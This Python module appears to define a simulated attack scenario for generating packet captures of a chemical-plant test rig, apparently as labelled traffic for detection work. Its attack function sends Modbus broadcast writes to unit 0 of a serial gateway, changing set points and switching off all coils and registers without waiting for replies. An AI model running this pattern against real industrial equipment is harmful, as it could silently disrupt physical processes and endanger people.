"""A device in the cell writes to unit 0 of the serial gateway: every meter behind it obeys, none answers."""

from __future__ import annotations

from pcaps.scenarios.rig.layout import CHEM
from pcaps.scenarios.rig.operations import chem_masters
from pcaps.scenarios.rig.scenario import Scenario
from pcaps.scenarios.rig.stage import Stage


async def attack(stage: Stage) -> None:
    """Broadcast set points, then switch everything off."""
    await stage.until(50)
    async with stage.connect(CHEM.host("meters").ip) as client:
        stage.mark()
        for value in (100, 50, 0):
            await client.write_register(0, value, device_id=0, no_response_expected=True)
            await stage.wait(5)
        stage.mark()
        await client.write_coils(0, [False] * 8, device_id=0, no_response_expected=True)
        await stage.wait(5)
        await client.write_registers(100, [0] * 8, device_id=0, no_response_expected=True)
        await stage.wait(5)


SCENARIO = Scenario(
    file="broadcast_write.pcap",
    enterprise="chem",
    duration_s=120,
    time_scale=6,
    seed=18,
    masters=chem_masters(slack=2),
    acts={"implant": attack},
    strangers=("implant",),
)
